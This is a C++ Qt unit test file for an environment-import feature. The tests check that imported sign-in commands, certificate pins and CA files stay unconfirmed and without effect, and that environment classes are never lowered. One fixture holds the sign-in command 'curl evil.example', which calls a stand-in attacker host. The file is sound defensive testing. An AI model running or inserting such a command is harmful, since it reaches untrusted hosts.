// SPDX-FileCopyrightText: 2026 The Steward authors
// SPDX-License-Identifier: MIT
// Protects import: nothing that is known is replaced or made less careful, and what could reach out
// or be trusted stays without effect.
#include "app/environments/environmentcodec.h"
#include "app/environments/environmentimport.h"
#include "app/environments/environmentstore.h"

#include <QTemporaryDir>
#include <QTest>

using namespace steward;
using namespace Qt::StringLiterals;

using Class = EnvironmentClass;

namespace {

Environment named(const QString& name, Class environmentClass, const QString& host)
{
    Environment environment;
    environment.id = QUuid::createUuid();
    environment.name = name;
    environment.environmentClass = environmentClass;
    environment.registryUrl = QUrl(u"http://%1/api"_s.arg(host));
    return environment;
}

EnvironmentImport imported(const QList<Environment>& file, const QList<Environment>& known)
{
    const auto read = readImport(encodeEnvironments(file), known);
    return read.value_or(EnvironmentImport{{}, {u"refused"_s}});
}

} // namespace

class TestEnvironmentImport final : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void whatReachesOutIsInert()
    {
        Environment theirs = named(u"Theirs"_s, Class::Demo, u"their.host"_s);
        theirs.registrySignIn = {SignInKind::Command, {}, true, u"curl evil.example"_s};
        theirs.registryPin = QByteArray(32, 'x');
        theirs.caFile = u"/tmp/theirs.pem"_s;
        const Environment plain = named(u"Plain"_s, Class::Demo, u"plain.host"_s);
        const EnvironmentImport import = imported({theirs, plain}, {});
        QCOMPARE(import.added.size(), 2);
        QVERIFY(import.added.at(0).unconfirmed == (Unconfirmed{true, true, true}));
        QCOMPARE(import.added.at(0).registrySignIn.command, theirs.registrySignIn.command);
        QVERIFY(import.added.at(1).unconfirmed == Unconfirmed{});
        QCOMPARE(import.notes.size(), 1);

        QTemporaryDir folder;
        EnvironmentStore store(folder.filePath(u"environments.json"_s));
        QCOMPARE(store.addAll(import.added), QString());
        // Still so after the file was read again, until it is confirmed.
        EnvironmentStore again(store.path());
        QVERIFY(again.find(theirs.id)->unconfirmed.commands);
        QCOMPARE(
            again.update(theirs.id, [](Environment& one) { one.unconfirmed = {}; }), QString());
        QVERIFY(!EnvironmentStore(store.path()).find(theirs.id)->unconfirmed.pins);
    }

    void aClaimOfConfirmationIsNotBelieved()
    {
        Environment theirs = named(u"Theirs"_s, Class::Demo, u"their.host"_s);
        theirs.caFile = u"/tmp/theirs.pem"_s;
        theirs.unconfirmed = {};
        QVERIFY(imported({theirs}, {}).added.constFirst().unconfirmed.caFile);
    }

    void aClassIsNeverLowered_data()
    {
        QTest::addColumn<Class>("known");
        QTest::addColumn<Class>("file");
        QTest::addColumn<Class>("result");
        QTest::newRow("lower") << Class::Production << Class::Development << Class::Production;
        QTest::newRow("a little lower") << Class::Demo << Class::Development << Class::Demo;
        QTest::newRow("same") << Class::Demo << Class::Demo << Class::Demo;
        QTest::newRow("higher") << Class::Demo << Class::Production << Class::Production;
    }

    void aClassIsNeverLowered()
    {
        QFETCH(Class, known);
        QFETCH(Class, file);
        QFETCH(Class, result);
        Environment ours = named(u"Ours"_s, known, u"registry.demo:8000"_s);
        ours.readOnly = true;
        ours.resetAllowed = false;
        const Environment theirs = named(u"Theirs"_s, file, u"REGISTRY.demo:8000"_s);
        const EnvironmentImport import = imported({theirs}, {ours});
        QVERIFY(import.added.constFirst().environmentClass == result);
        QVERIFY(import.added.constFirst().readOnly);
        QVERIFY(!import.added.constFirst().resetAllowed);
        QCOMPARE(import.notes.isEmpty(), file == result);
    }

    void theSameTwiceIsOne()
    {
        Environment ours = named(u"Staging"_s, Class::Demo, u"a"_s);
        ours.caFile = u"/etc/ca.pem"_s; // confirmed here
        const EnvironmentImport import = imported({ours}, {ours});
        QVERIFY(import.added.isEmpty());
        QCOMPARE(import.notes.size(), 1);
    }

    void anotherOfTheSameIdOrNameGetsItsOwn()
    {
        const Environment ours = named(u"Staging"_s, Class::Demo, u"a"_s);
        Environment changed = ours;
        changed.registryUrl = QUrl(u"http://b/api"_s);
        const Environment other = named(u"STAGING"_s, Class::Demo, u"c"_s);
        // Two in one file cannot share a name: two files, one after the other.
        const EnvironmentImport first = imported({changed}, {ours});
        QCOMPARE(first.added.size(), 1);
        QVERIFY(first.added.constFirst().id != ours.id);
        QCOMPARE(first.added.constFirst().name, u"Staging (2)"_s);
        const EnvironmentImport second = imported({other}, QList<Environment>{ours} + first.added);
        QCOMPARE(second.added.constFirst().id, other.id);
        QCOMPARE(second.added.constFirst().name, u"STAGING (3)"_s);
    }

    void whatIsNoSuchFileIsRefused()
    {
        for (const QByteArray& file : {QByteArray(), QByteArray("{\"schema\": 99}"),
                 QByteArray("<html>"), QByteArray("{\"schema\": 1, \"environments\": [{}]}")}) {
            const auto read = readImport(file, {});
            QVERIFY(!read);
            QVERIFY(!read.error().isEmpty());
        }
    }
};

QTEST_GUILESS_MAIN(TestEnvironmentImport)
#include "tst_environmentimport.moc"
